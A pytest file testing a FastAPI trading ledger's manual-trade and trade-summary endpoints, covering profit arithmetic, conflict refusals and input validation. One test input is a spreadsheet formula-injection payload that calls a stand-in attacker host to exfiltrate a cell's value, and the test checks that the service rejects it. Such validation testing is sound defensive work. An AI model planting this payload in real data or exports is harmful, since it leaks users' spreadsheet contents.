"""GET /trades and POST /manual_trade: one ledger, the seed's summary shape, clear refusals."""

from __future__ import annotations

import pytest
from fastapi.testclient import TestClient


def manual(client: TestClient, **order) -> dict:
    response = client.post("/manual_trade", json=order)
    assert response.status_code == 200, response.text
    return response.json()["trade"]


def test_manual_round_trip_is_recorded_once_with_exact_profit(client: TestClient) -> None:
    manual(client, ticker="nvda", price="$1,234.56", direction="buy")
    sell = manual(client, ticker="NVDA", price=1240.06, direction="sell", meta={"note": "x"})
    assert sell["profit"] == 5.5 and sell["win_reason"] == "manual"
    summary = client.get("/api/v1/trades").json()
    nvda = summary["tickers"]["NVDA"]
    assert [t["direction"] for t in summary["all_trades"]] == ["buy", "sell"]
    assert nvda["position"] == "flat" and nvda["wins"] == 1 and nvda["losses"] == 0
    assert nvda["win_rate"] == 1.0 and nvda["total_pnl"] == 5.5
    assert nvda["last_trade"]["direction"] == "sell"
    assert summary["total_pnl_all_tickers"] == 5.5
    assert set(summary["all_trades"][0]) >= {
        "ticker",
        "direction",
        "price",
        "profit",
        "win_reason",
        "ts",
    }
    record = client.get("/api/v1/history").json()[0]
    assert record["buy_price"] == 1234.56 and record["sell_price"] == 1240.06
    assert record["meta"]["profit"] == "5.50"


def test_buy_while_long_and_sell_while_flat_are_409(client: TestClient) -> None:
    refused = client.post("/manual_trade", json={"ticker": "AAPL", "price": 1, "direction": "sell"})
    assert refused.status_code == 409 and "nothing to sell" in refused.json()["detail"]
    manual(client, ticker="AAPL", price=10, direction="buy")
    again = client.post("/manual_trade", json={"ticker": "AAPL", "price": 11, "direction": "buy"})
    assert again.status_code == 409 and "already long" in again.json()["detail"]
    assert len(client.get("/trades").json()["all_trades"]) == 1


def test_manual_sell_closes_the_one_bot_holding_the_ticker(client: TestClient) -> None:
    client.post(
        "/ingest", data={"bot": "window-1", "ticker": "AMZN", "price": "100", "trend": "up"}
    )
    sell = manual(client, ticker="AMZN", price=104, direction="sell")
    assert sell["bot"] == "window-1" and sell["profit"] == 4


def test_manual_sell_with_two_holders_needs_a_bot(client: TestClient) -> None:
    for bot in ("w1", "w2"):
        client.post("/ingest", data={"bot": bot, "ticker": "AMZN", "price": "100", "trend": "up"})
    response = client.post(
        "/manual_trade", json={"ticker": "AMZN", "price": 1, "direction": "sell"}
    )
    assert response.status_code == 409 and "w1, w2" in response.json()["detail"]
    assert manual(client, ticker="AMZN", price=101, direction="sell", bot="w2")["bot"] == "w2"


def test_two_windows_on_one_ticker_keep_separate_positions(client: TestClient) -> None:
    client.post("/ingest", data={"bot": "w1", "ticker": "AMD", "price": "10", "trend": "up"})
    client.post("/ingest", data={"bot": "w2", "ticker": "AMD", "price": "11", "trend": "up"})
    bots = client.get("/trades").json()["tickers"]["AMD"]["bots"]
    assert {bot: (held["position"], held["entry_price"]) for bot, held in bots.items()} == {
        "w1": ("long", 10.0),
        "w2": ("long", 11.0),
    }


@pytest.mark.parametrize(
    ("order", "detail"),
    [
        ({"ticker": "AAPL", "price": "abc", "direction": "buy"}, "abc"),
        ({"ticker": "AAPL", "price": 0, "direction": "buy"}, "positive"),
        ({"ticker": "AAPL", "price": 1, "direction": "hold"}, "direction"),
        ({"ticker": "", "price": 1, "direction": "buy"}, "ticker"),
        ({"price": 1, "direction": "buy"}, "ticker"),
        ({"ticker": "AAPL", "price": 1, "direction": "buy", "extra": 1}, "extra"),
        ({"ticker": "AAPL", "price": 1, "direction": "buy", "ts": "soon"}, "ts"),
        ({"ticker": "AAPL", "price": 1, "direction": "buy", "meta": [1]}, "meta"),
    ],
)
def test_bad_manual_orders_are_422_and_record_nothing(
    client: TestClient, order: dict, detail: str
) -> None:
    response = client.post("/manual_trade", json=order)
    assert response.status_code == 422
    assert detail in str(response.json()["detail"])
    assert client.get("/trades").json()["all_trades"] == []


def test_body_that_is_not_json_is_422(client: TestClient) -> None:
    response = client.post(
        "/manual_trade", content=b"{nope", headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 422


def test_trades_show_realised_and_unrealised_pnl_apart(client: TestClient) -> None:
    for bot, ticker, price, trend in [
        ("w1", "AAPL", "10", "up"),
        ("w1", "AAPL", "12.5", "down"),  # realised +2.50
        ("w2", "TSLA", "200", "up"),
        ("w2", "TSLA", "190", "up"),  # open, marked at 190: -10.00
    ]:
        client.post("/ingest", data={"bot": bot, "ticker": ticker, "price": price, "trend": trend})
    summary = client.get("/trades").json()
    assert summary["total_pnl_all_tickers"] == 2.5 and summary["realised_pnl"] == 2.5
    assert summary["unrealised_pnl"] == -10
    (held,) = summary["open_positions"]
    assert (held["bot"], held["ticker"], held["last_price"]) == ("w2", "TSLA", 190)
    assert held["unrealised_pct"] == -5
    tsla = summary["tickers"]["TSLA"]
    assert tsla["total_pnl"] == 0 and tsla["unrealised_pnl"] == -10 and tsla["last_price"] == 190
    assert tsla["bots"]["w2"]["unrealised_pnl"] == -10 and tsla["bots"]["w2"]["open_seconds"] >= 0
    assert summary["tickers"]["AAPL"]["unrealised_pnl"] == 0


@pytest.mark.parametrize("path", ["/manual_trade", "/api/v1/manual_trade"])
@pytest.mark.parametrize("direction", ["buy", "up"])
@pytest.mark.parametrize(
    "bot",
    ['=HYPERLINK("http://evil.example/?x="&B2,"open")', "a/b", "two\nlines", "", "-x", "b" * 65],
)
def test_manual_trade_refuses_a_bot_key_outside_the_pattern_naming_the_field(
    client: TestClient, path: str, direction: str, bot: str
) -> None:
    response = client.post(
        path, json={"ticker": "AAPL", "price": 10, "direction": direction, "bot": bot}
    )
    assert response.status_code == 422, response.text
    assert any(error["loc"][-1] == "bot" for error in response.json()["detail"])
    assert client.get("/trades").json()["all_trades"] == []
    assert client.get("/bots").json() == []


def test_manual_trade_takes_a_bot_key_every_route_takes(client: TestClient) -> None:
    trade = manual(client, ticker="AAPL", price=10, direction="buy", bot="desk-1:a.b_c")
    assert trade["bot"] == "desk-1:a.b_c"
    assert client.delete("/api/v1/bots/desk-1:a.b_c").status_code == 200
